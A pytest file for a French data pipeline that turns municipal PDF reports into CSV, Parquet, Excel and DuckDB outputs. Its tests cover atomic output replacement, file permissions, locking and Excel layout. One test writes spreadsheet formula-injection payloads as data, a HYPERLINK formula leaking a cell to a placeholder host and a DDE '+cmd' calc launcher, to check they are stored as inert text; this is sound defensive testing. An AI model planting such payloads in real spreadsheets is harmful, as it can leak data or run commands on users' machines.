"""A run's outputs are never lost, come as one set, follow the umask, and open in Excel as data."""

import os
import shutil
import stat
import subprocess
import sys

import pandas as pd
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from pipeline import publish, stages
from pipeline.excel import write_xlsx

from .conftest import ROOT, SAMPLES

OUTPUTS = ("synergies.csv", "synergies.parquet", "synergies.xlsx", "synergies.duckdb", "rejects.csv", "doublons.csv",
           "validation_report.csv", "validation_report.md", "corrections_en_attente.csv")


def synergies(*args, umask=None):
    return subprocess.run([sys.executable, "-m", "pipeline", *map(str, args)], cwd=ROOT, capture_output=True,
                          text=True, timeout=300, preexec_fn=(lambda: os.umask(umask)) if umask is not None else None)


@pytest.fixture(scope="module")
def first_run(tmp_path_factory):
    """Mons 2020 (ruled PDF) run once, under umask 022; tests copy its output folder."""
    out = tmp_path_factory.mktemp("premiere") / "sortie"
    done = synergies("run", SAMPLES["regle"], "--out", out, umask=0o022)
    assert done.returncode == 0, done.stderr
    return out


def contents(folder):
    return {p.name: p.read_bytes() for p in folder.iterdir()}


def failures(out):
    return pd.read_csv(out / "validation_report.csv", dtype=str, keep_default_na=False)


@pytest.fixture
def previous(first_run, tmp_path):
    out = tmp_path / "sortie"
    shutil.copytree(first_run, out)
    return out


def test_a_run_writes_every_output_file(first_run):
    assert {p.name for p in first_run.iterdir()} == set(OUTPUTS)


def test_a_mistyped_input_is_a_usage_error_and_keeps_the_previous_outputs(previous):
    before = contents(previous)
    done = synergies("run", "raw/mons/2022", "--out", previous)
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == ["raw/mons/2022 : fichier ou dossier introuvable ; rien n'a été écrit."]
    assert contents(previous) == before


def test_a_run_with_no_readable_document_keeps_the_previous_outputs(previous, tmp_path):
    bad = tmp_path / "illisibles"
    bad.mkdir()
    (bad / "texte.pdf").write_text("Ceci n'est pas un PDF.\n", encoding="utf-8")
    before = contents(previous)
    done = synergies("run", bad, "--out", previous)
    assert done.returncode == 1
    assert "Aucun document lisible" in done.stderr and "Traceback" not in done.stderr
    assert contents(previous) == before


def test_files_follow_the_umask(first_run, tmp_path):
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o644 for p in first_run.iterdir())
    assert stat.S_IMODE(first_run.stat().st_mode) == 0o755
    out = tmp_path / "groupe"
    assert synergies("run", SAMPLES["regle"], "--out", out, umask=0o002).returncode == 0
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o664 for p in out.iterdir())


def test_an_interrupted_write_leaves_the_whole_previous_set(previous, monkeypatch):
    before = contents(previous)
    table = pd.read_parquet(previous / "synergies.parquet")

    def interrupted(*args):  # Ctrl-C after the CSV and the Parquet were written
        raise KeyboardInterrupt

    monkeypatch.setattr(stages, "write_xlsx", interrupted)
    with pytest.raises(KeyboardInterrupt):
        stages.write_outputs(table.iloc[:3], [], failures(previous), previous)
    assert contents(previous) == before
    assert [p.name for p in previous.parent.iterdir()] == ["sortie"]  # no staging folder left


def test_a_new_set_replaces_the_old_one_and_keeps_other_files(previous):
    (previous / "notes.txt").write_text("mes remarques\n", encoding="utf-8")
    table = pd.read_csv(previous / "synergies.csv", dtype=str, keep_default_na=False)
    stages.write_outputs(table.iloc[:3], [], failures(previous), previous)
    assert len(pd.read_csv(previous / "synergies.csv")) == 3
    assert pq.read_metadata(previous / "synergies.parquet").num_rows == 3
    assert (previous / "notes.txt").read_text(encoding="utf-8") == "mes remarques\n"


def test_a_second_run_on_the_same_folder_is_refused(previous):
    before = contents(previous)
    with publish.output_lock(previous):
        done = synergies("run", SAMPLES["regle"], "--out", previous)
    assert done.returncode == 2
    assert "une autre exécution écrit déjà dans ce dossier" in done.stderr and "Traceback" not in done.stderr
    assert contents(previous) == before


def test_parquet_holds_nulls_where_the_csv_has_empty_cells(first_run):
    csv = pd.read_csv(first_run / "synergies.csv", dtype=str, keep_default_na=False)
    parquet = pq.read_table(first_run / "synergies.parquet")
    unknown = int((csv["statut_norm"] == "").sum())
    assert unknown > 0 and parquet.column("statut_norm").null_count == unknown
    frame = parquet.to_pandas()
    for column in frame.columns:
        if pd.api.types.is_string_dtype(frame[column]) and column != "objectifs_norm":
            assert not (frame[column] == "").any(), column
    assert (csv["statut_norm"] == "").any()  # the CSV keeps its empty cells


def test_excel_cells_are_never_formulas(tmp_path):
    hostile = ['=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez ici")', "+cmd|' /C calc'!A0", "-2+3",
               "@SUM(A1:A9)", "=1+1"]
    table = pd.DataFrame({"synergie": hostile, "annee": [2020] * 5, "a_verifier": [True, False, True, False, True],
                          "avancement_pct": pd.array([100, None, 50, None, 0], dtype="Int64")})
    rejects = pd.DataFrame({"fichier": ["=evil.pdf"], "raison": ["+cmd|x"]})
    write_xlsx(table, rejects, tmp_path / "synergies.xlsx")
    book = load_workbook(tmp_path / "synergies.xlsx")
    assert book.sheetnames == ["synergies", "a_verifier", "rejets"]
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    sheet = book["synergies"]
    assert [sheet.cell(row=i, column=1).value for i in range(2, 7)] == hostile
    assert [sheet.cell(row=i, column=2).value for i in range(2, 7)] == [2020] * 5  # numbers stay numbers
    assert sheet.cell(row=3, column=4).value is None  # unknown percentage: an empty cell
    assert [c.value for c in book["rejets"][2]] == ["=evil.pdf", "+cmd|x"]
    assert book["a_verifier"].max_row == 4  # header and the three flagged rows


def test_excel_file_of_a_run_is_laid_out_for_reading(first_run):
    book = load_workbook(first_run / "synergies.xlsx")
    sheet = book["synergies"]
    csv = pd.read_csv(first_run / "synergies.csv", dtype=str, keep_default_na=False)
    assert sheet.max_row == len(csv) + 1 and [c.value for c in sheet[1]] == list(csv.columns)
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    synergie = list(csv.columns).index("synergie") + 1
    assert sheet.cell(row=2, column=synergie).alignment.wrap_text
    assert all(sheet.column_dimensions[c].width for c in ("A", "B", "C"))
    assert [sheet.cell(row=i, column=synergie).value for i in range(2, len(csv) + 2)] == csv["synergie"].tolist()
    assert book["a_verifier"].max_row == int((csv["a_verifier"] == "True").sum()) + 1
    assert [c.value for c in book["a_verifier"][1]] == list(csv.columns)  # the same columns, no index added


def test_an_output_folder_holding_the_inputs_is_refused(tmp_path):
    shutil.copy(SAMPLES["regle"], tmp_path / "mons_2020.pdf")
    done = subprocess.run([sys.executable, "-m", "pipeline", "run", "mons_2020.pdf", "--out", "."], cwd=tmp_path,
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 2 and "choisissez un dossier de sortie à part" in done.stderr
    inside = synergies("run", tmp_path, "--out", tmp_path / "resultats")
    assert inside.returncode == 2 and "seraient relus comme des rapports" in inside.stderr
    assert [p.name for p in tmp_path.iterdir()] == ["mons_2020.pdf"]


def test_an_output_folder_beside_the_inputs_in_the_working_folder_is_accepted(tmp_path):
    """The README's layout: reports in raw/, results in output/, both in the working folder."""
    (tmp_path / "raw").mkdir()
    shutil.copy(SAMPLES["regle"], tmp_path / "raw" / "mons_2020.pdf")
    done = subprocess.run([sys.executable, "-m", "pipeline", "run", "raw", "--out", "output", "--registre",
                           "registre.csv", "--no-cache"], cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert len(pd.read_csv(tmp_path / "output" / "synergies.csv")) == 35


def test_run_without_out_writes_to_output(tmp_path):
    """`synergies run raw` alone writes output/synergies.csv, as the README's layout has it."""
    (tmp_path / "raw").mkdir()
    shutil.copy(SAMPLES["regle"], tmp_path / "raw" / "mons_2020.pdf")
    done = subprocess.run([sys.executable, "-m", "pipeline", "run", "raw", "--registre", "registre.csv", "--no-cache"],
                          cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert len(pd.read_csv(tmp_path / "output" / "synergies.csv")) == 35
